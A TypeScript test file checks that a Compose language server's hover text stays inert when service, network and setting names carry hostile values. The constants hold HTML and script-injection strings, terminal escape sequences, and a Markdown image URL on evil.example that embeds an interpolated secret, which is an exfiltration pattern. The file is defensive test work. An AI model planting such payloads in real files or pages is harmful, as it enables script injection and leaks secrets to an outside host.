// Hovers show names and values from a hostile file exactly, and nothing more: backticks cannot
// leave their code span, and no link, image or HTML written in the file reaches the rendered hover
// (an image URL there would be fetched, carrying whatever interpolation put in it).
import * as assert from 'node:assert/strict';
import { code, fromCodeSpans, text } from '../../server/src/display/markdown';
import { hover } from '../../server/src/features/hover';
import { check } from '../helpers/project';

// markdown-it (a dependency of the packager) renders as VS Code's hover would, raw HTML and bare links included.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const MarkdownIt = require('markdown-it') as new (options: object) => { render(src: string): string };
const md = new MarkdownIt({ html: true, linkify: true });

/** The rendered hover's text, as a reader sees it. */
function shown(html: string): string {
  return html
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&');
}

/** Rendered HTML holds only the elements hovers are written with. */
function assertInert(html: string, where: string): void {
  const tags = [...html.matchAll(/<\/?([a-z0-9]+)/gi)].map((m) => m[1].toLowerCase());
  assert.deepEqual([...new Set(tags)].filter((t) => !['p', 'strong', 'code', 'ul', 'li', 'em'].includes(t)), [], `${where}:\n${html}`);
}

const SERVICE = 'a`b``<img src=x>';
const NETWORK = 'n``[l](https://evil.example/)';
const DRIVER = '**x**<script>alert(1)</script>![d](https://evil.example/d.png)';
const ALIAS = '`al<i>ias';
const HOST_IP = '<b>127.0.0.1</b>';
const MODE = 'x`<img src=z>';
const KEY = 'KEY`<img src=y>_URL';

const FILE = [
  'services:',
  `  "${SERVICE}":`,
  '    image: "![i](https://evil.example/${SECRET}.png) www.evil.example"',
  '    networks:',
  `      "${NETWORK}":`,
  `        aliases: ["${ALIAS}"]`,
  '    ports:',
  `      - { target: 80, published: 8080, host_ip: "${HOST_IP}" }`,
  '    environment:',
  `      "${KEY}": http://db:5432/`,
  '  db:',
  '    image: postgres',
  `    networks: ["${NETWORK}"]`,
  '  odd:',
  '    image: busybox',
  `    network_mode: "${MODE}"`,
  '  "esc\\e[2Jx\\nforged":',
  '    image: busybox',
  'networks:',
  `  "${NETWORK}":`,
  `    driver: "${DRIVER}"`,
  '',
].join('\n');

describe('hover Markdown from hostile names', () => {
  const a = check({ 'compose.yaml': FILE }, { env: { SECRET: 'hunter2' } });
  const source = a.project.sources.all()[0];

  /** The rendered hover at the first character of the `nth` occurrence of `needle` in the file. */
  function hoverOn(needle: string, nth = 0): string {
    let at = -1;
    for (let i = 0; i <= nth; i++) at = source.text.indexOf(needle, at + 1);
    assert.ok(at >= 0, needle);
    const h = hover(a, source.path, source.positionAt(at + 1));
    assert.ok(h, `a hover on ${needle}`);
    const html = md.render((h.contents as { value: string }).value);
    assertInert(html, needle);
    return shown(html);
  }

  it('a service name with backticks and HTML, and an interpolated image URL', () => {
    const seen = hoverOn(SERVICE);
    assert.ok(seen.includes(`service ${SERVICE}`), seen);
    assert.ok(seen.includes('![i](https://evil.example/hunter2.png) www.evil.example'), seen);
  });

  it('a network name and its driver', () => {
    assert.ok(hoverOn(NETWORK, 2).includes(`network ${NETWORK}`));
    assert.ok(hoverOn('**x**').includes(`driver: ${DRIVER}`));
  });

  it('an alias, a host IP and an unknown network_mode', () => {
    assert.ok(hoverOn(ALIAS).includes(`alias ${ALIAS}`));
    assert.ok(hoverOn('{ target').includes(`host ${HOST_IP}:8080`));
    assert.ok(hoverOn(MODE).includes(`network_mode: ${MODE}`));
  });

  it('a setting name in the role of an address', () => {
    assert.ok(hoverOn('db:5432').includes(KEY), 'the setting is named');
  });

  it('control characters show as escapes and never start a line', () => {
    const seen = hoverOn('esc');
    assert.ok(seen.includes('esc\\x1b[2Jx\\nforged'), seen);
  });

  it('names from a mounted configuration file in the role of an address', () => {
    const JOB = 'job`<img src=x>[l](https://evil.example/)';
    const PROM = ['scrape_configs:', `  - job_name: "${JOB}"`, '    static_configs:', '      - targets: ["api:9100"]', ''].join('\n');
    const files = { 'compose.yaml': ['services:', '  prometheus:', '    image: prom/prometheus', '    volumes: ["./prometheus.yml:/etc/prometheus/prometheus.yml"]', '  api:', '    image: busybox', ''].join('\n'), 'prometheus.yml': PROM };
    const mounted = check(files, { hostFiles: { inspect: (f) => (f === '/virtual/proj/prometheus.yml' ? { kind: 'file' } : { kind: 'missing' }), list: () => [] } });
    const prom = mounted.project.sources.get('/virtual/proj/prometheus.yml');
    assert.ok(prom, 'the mounted file is read');
    const h = hover(mounted, prom.path, prom.positionAt(prom.text.indexOf('api:9100') + 1));
    assert.ok(h, 'a hover on the scrape target');
    const html = md.render((h.contents as { value: string }).value);
    assertInert(html, 'scrape target');
    assert.ok(shown(html).includes(`Role: dial — the service connects here: Prometheus scrapes it (job ${JOB})`), shown(html));
  });

  it('code spans hold any text exactly; text and phrases escape what Markdown would act on', () => {
    for (const value of ['`', '``', ' a ', '`a`', 'a``b', '', 'x\u001b]8;;https://e\u0007y']) {
      const html = md.render(`x ${code(value)} y`);
      assertInert(html, value);
      assert.equal(shown(html).trim(), `x ${value === '' ? ' ' : value.replace(/\u001b/g, '\\x1b').replace(/\u0007/g, '\\x07')} y`);
    }
    for (const value of ['*a* _b_ [c](d) ![e](f) <g> &amp; ~~h~~ https://x.example www.y.example z@w.example \\ $(icon)']) {
      const html = md.render(`x ${text(value)}`);
      assertInert(html, value);
      assert.equal(shown(html).trim(), `x ${value}`);
    }
    assert.equal(shown(md.render(fromCodeSpans(`${code('A`B<b>')} says ${code('C')} and \`D`))).trim(), 'A`B<b> says C and `D');
  });
});
